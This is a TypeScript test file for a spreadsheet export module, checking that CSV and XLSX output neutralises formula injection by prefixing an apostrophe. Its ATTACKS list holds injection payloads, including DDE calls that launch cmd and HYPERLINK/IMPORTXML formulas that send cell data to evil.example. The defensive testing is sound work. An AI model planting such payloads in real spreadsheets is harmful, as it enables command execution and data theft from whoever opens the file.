import { describe, expect, test } from 'vitest';
import { readSheet } from '#tests/support/helpers/xlsx.ts';
import { csvOf, xlsxOf, type Cell } from './spreadsheet.ts';

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '-1.5e9',
  '-1\n=1+1',
  '@SUM(1+1)',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  `=DDE("cmd";"/C calc";"!A0")`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF20SUM(1)',
];
const HARMLESS = [
  'Ada Owner',
  'a=b',
  '2 + 2',
  'ada@agency.example',
  `O'Brien`,
  'call "me", then go',
  'two\nlines',
  '',
];

const sheet = (rows: Cell[][]) => ({
  name: 'Hours',
  columns: [
    { header: 'Who', width: 20 },
    { header: 'Minutes', width: 10 },
  ],
  rows,
});

/** Parses CSV; every cell must be quoted. */
function parseCells(csv: Buffer): string[][] {
  const text = csv.toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const body = text.slice(1).replace(/\r\n$/, '');
  const rows: string[][] = [];
  for (const [cell, value = '', end] of body.matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)) {
    expect(cell.length).toBeGreaterThan(1);
    const row = rows.at(-1) ?? [];
    if (rows.length === 0) rows.push(row);
    row.push(value.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  expect(rows.flat().length * 3 - 1).toBeLessThanOrEqual(body.length);
  return rows;
}

test('covers 17 different attacks', () => {
  expect(new Set(ATTACKS).size).toBe(17);
});

describe.each(ATTACKS)('writes %j as text', (attack) => {
  test('to CSV [S-29]', () => {
    expect(parseCells(csvOf(sheet([[attack, 5]])))[1]).toEqual([`'${attack}`, '5']);
  });

  test('to XLSX [S-29]', async () => {
    const { rows, formulas } = await readSheet(await xlsxOf(sheet([[attack, 5]])));
    expect(formulas).toBe(0);
    expect(rows[1]).toEqual([`'${attack}`.replaceAll('\r', '\n'), 5]);
  });
});

test.each(HARMLESS)('leaves %j as it is', async (text) => {
  expect(parseCells(csvOf(sheet([[text, 5]])))[1]?.[0]).toBe(text);
  const { rows } = await readSheet(await xlsxOf(sheet([[text, 5]])));
  expect(rows[1]).toEqual(text === '' ? [5] : [text, 5]);
});

test('writes numbers as numbers, also negative ones', async () => {
  const rows = [['Ada', -2.25]] satisfies Cell[][];
  expect(parseCells(csvOf(sheet(rows)))).toEqual([
    ['Who', 'Minutes'],
    ['Ada', '-2.25'],
  ]);
  expect((await readSheet(await xlsxOf(sheet(rows)))).rows).toEqual([
    ['Who', 'Minutes'],
    ['Ada', -2.25],
  ]);
});

test.each(['-4.00', '-12', '0.50'])('leaves the exact decimal %s as it is', async (text) => {
  expect(parseCells(csvOf(sheet([[text, 5]])))[1]).toEqual([text, '5']);
  expect((await readSheet(await xlsxOf(sheet([[text, 5]])))).rows[1]).toEqual([text, 5]);
});

test('leaves out characters that XML cannot contain', async () => {
  const { rows } = await readSheet(await xlsxOf(sheet([['a\u0001b & <c>', 1]])));
  expect(rows[1]).toEqual(['ab & <c>', 1]);
});
